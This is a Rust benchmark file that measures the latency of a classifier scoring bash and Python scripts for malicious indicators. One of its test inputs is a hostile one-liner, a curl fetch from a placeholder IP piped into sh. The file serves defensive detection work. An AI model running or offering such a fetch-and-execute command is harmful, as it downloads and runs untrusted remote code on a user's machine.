//! Latency of scoring one script, features included, on one core.
//!
//! Targets (issue 3): median < 50 µs and p99 < 250 µs per script up to 64 KiB.
//! Criterion measures fixed inputs from a one-liner to a 64 KiB script; the
//! `corpus_sweep` pass times every script of the shared corpus (if present:
//! $SENSOR_DATA_DIR or ../shared/data/train) once and prints median/p99/max.
//! Run: `cargo bench -p sensor-classifier` (needs onnxruntime: `cargo xtask setup`).

use std::hint::black_box;
use std::path::PathBuf;
use std::time::Instant;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use sensor_classifier::{features, Classifier, Lang};

const ONE_LINER: &str = "curl -fsSL http://198.51.100.7/x.sh | sh";

fn synthetic_texts() -> Vec<(Lang, String)> {
    let path =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../models/synthetic/synthetic.jsonl");
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|v| {
            (
                v["lang"].as_str().unwrap().parse().unwrap(),
                v["content"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// A script of about `size` bytes made of our synthetic samples (dense with indicators: a worst case).
fn script_of(size: usize, lang: Lang) -> String {
    let parts: Vec<String> = synthetic_texts()
        .into_iter()
        .filter(|(l, _)| *l == lang)
        .map(|(_, t)| t)
        .collect();
    let mut out = String::new();
    for part in parts.iter().cycle() {
        if out.len() >= size {
            break;
        }
        out.push_str(part);
        out.push('\n');
    }
    out.truncate(size);
    out
}

fn corpus_texts() -> Vec<(Lang, String)> {
    let dir = std::env::var_os("SENSOR_DATA_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/train")
        });
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return out;
    };
    let mut files: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    files.sort();
    for file in files
        .into_iter()
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
    {
        for line in std::fs::read_to_string(&file).unwrap_or_default().lines() {
            if let Ok(v) = serde_json::from_str::<serde_json::Value>(line) {
                if let (Some(lang), Some(content)) = (v["lang"].as_str(), v["content"].as_str()) {
                    out.push((lang.parse().unwrap(), content.to_owned()));
                }
            }
        }
    }
    out
}

fn percentile(sorted: &[f64], p: f64) -> f64 {
    sorted[((sorted.len() - 1) as f64 * p).round() as usize]
}

/// Median, p99 and max over the corpus, and how many scripts.
fn corpus_sweep(classifier: Option<&Classifier>) -> Option<(f64, f64, f64, usize)> {
    let texts = corpus_texts();
    if texts.is_empty() {
        eprintln!("corpus_sweep: no corpus found (set SENSOR_DATA_DIR); skipped");
        return None;
    }
    // Warm caches and the session once.
    for (lang, text) in texts.iter().take(200) {
        black_box(features::featurize(text, *lang));
    }
    // Each script is timed 3 times and the fastest run kept: on a shared machine a
    // single run can include a scheduler preemption (milliseconds) that says
    // nothing about the cost of scoring.
    let mut times: Vec<f64> = texts
        .iter()
        .map(|(lang, text)| {
            (0..3)
                .map(|_| {
                    let start = Instant::now();
                    match classifier {
                        Some(c) => {
                            black_box(c.score(text, *lang).unwrap());
                        }
                        None => {
                            black_box(features::featurize(text, *lang));
                        }
                    }
                    start.elapsed().as_secs_f64() * 1e6
                })
                .fold(f64::INFINITY, f64::min)
        })
        .collect();
    times.sort_by(f64::total_cmp);
    eprintln!(
        "corpus_sweep ({}): {} scripts, best of 3 runs each: median {:.1} µs, p99 {:.1} µs, max {:.1} µs",
        if classifier.is_some() {
            "features + ONNX + evidence"
        } else {
            "features only"
        },
        times.len(),
        percentile(&times, 0.5),
        percentile(&times, 0.99),
        times.last().unwrap()
    );
    Some((
        percentile(&times, 0.5),
        percentile(&times, 0.99),
        *times.last().unwrap(),
        times.len(),
    ))
}

/// Both sweeps go to models/latency.json, which `cargo xtask train` quotes in the model card.
fn write_report(sizes: Vec<serde_json::Value>, corpus: Option<(f64, f64, f64, usize)>) {
    let round = |x: f64| (x * 10.0).round() / 10.0;
    let report = serde_json::json!({
        "what": "Classifier::score = features + ONNX + evidence, one thread",
        "sizes": {
            "inputs": "our synthetic indicator-dense scripts concatenated to each size (a worst case)",
            "runs_per_size": 400,
            "rows": sizes,
        },
        "corpus": corpus.map(|(median, p99, max, n)| serde_json::json!({
            "inputs": "every script of the shared corpus (up to 64 KiB), best of 3 runs each",
            "scripts": n,
            "median_us": round(median),
            "p99_us": round(p99),
            "max_us": round(max),
        })),
        "load_average_1m": std::fs::read_to_string("/proc/loadavg").ok().and_then(|l| l.split_whitespace().next().and_then(|x| x.parse::<f64>().ok())),
        "cpus": std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1),
    });
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../models/latency.json");
    match std::fs::write(&path, format!("{report:#}\n")) {
        Ok(()) => eprintln!("latency report: {}", path.display()),
        Err(err) => eprintln!("could not write {}: {err}", path.display()),
    }
}

/// Median and p99 per input size: each size is scored `RUNS` times and every
/// run timed on its own (criterion reports means, the targets are percentiles).
fn size_sweep(classifier: Option<&Classifier>) -> Vec<serde_json::Value> {
    const RUNS: usize = 400;
    let mut rows = Vec::new();
    for lang in [Lang::Bash, Lang::Python] {
        for kib in [1usize, 4, 16, 64] {
            let text = script_of(kib << 10, lang);
            let mut times: Vec<f64> = (0..RUNS)
                .map(|_| {
                    let start = Instant::now();
                    match classifier {
                        Some(c) => {
                            black_box(c.score(black_box(&text), lang).unwrap());
                        }
                        None => {
                            black_box(features::featurize(black_box(&text), lang));
                        }
                    }
                    start.elapsed().as_secs_f64() * 1e6
                })
                .collect();
            times.sort_by(f64::total_cmp);
            eprintln!(
                "size_sweep {} {:>2} KiB ({}): median {:.1} µs, p99 {:.1} µs over {RUNS} runs",
                lang.as_str(),
                kib,
                if classifier.is_some() {
                    "score"
                } else {
                    "features"
                },
                percentile(&times, 0.5),
                percentile(&times, 0.99),
            );
            rows.push(serde_json::json!({
                "lang": lang.as_str(),
                "kib": kib,
                "median_us": (percentile(&times, 0.5) * 10.0).round() / 10.0,
                "p99_us": (percentile(&times, 0.99) * 10.0).round() / 10.0,
            }));
        }
    }
    rows
}

fn bench(c: &mut Criterion) {
    let classifier = match Classifier::load_embedded() {
        Ok(c) => Some(c),
        Err(err) => {
            eprintln!("onnxruntime unavailable, benchmarking features only: {err}");
            None
        }
    };
    let sizes = size_sweep(classifier.as_ref());
    let corpus = corpus_sweep(classifier.as_ref());
    if classifier.is_some() {
        write_report(sizes, corpus);
    }

    let mut group = c.benchmark_group("featurize");
    for size in [64usize, 4 << 10, 64 << 10] {
        for lang in [Lang::Bash, Lang::Python] {
            let text = if size == 64 {
                ONE_LINER.to_owned()
            } else {
                script_of(size, lang)
            };
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_with_input(BenchmarkId::new(lang.as_str(), size), &text, |b, t| {
                b.iter(|| features::featurize(black_box(t), lang))
            });
        }
    }
    group.finish();

    let Some(classifier) = classifier else { return };
    let mut group = c.benchmark_group("score");
    for size in [64usize, 4 << 10, 64 << 10] {
        for lang in [Lang::Bash, Lang::Python] {
            let text = if size == 64 {
                ONE_LINER.to_owned()
            } else {
                script_of(size, lang)
            };
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_with_input(BenchmarkId::new(lang.as_str(), size), &text, |b, t| {
                b.iter(|| classifier.score(black_box(t), lang).unwrap())
            });
        }
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30).warm_up_time(std::time::Duration::from_millis(500)).measurement_time(std::time::Duration::from_secs(2));
    targets = bench
}
criterion_main!(benches);
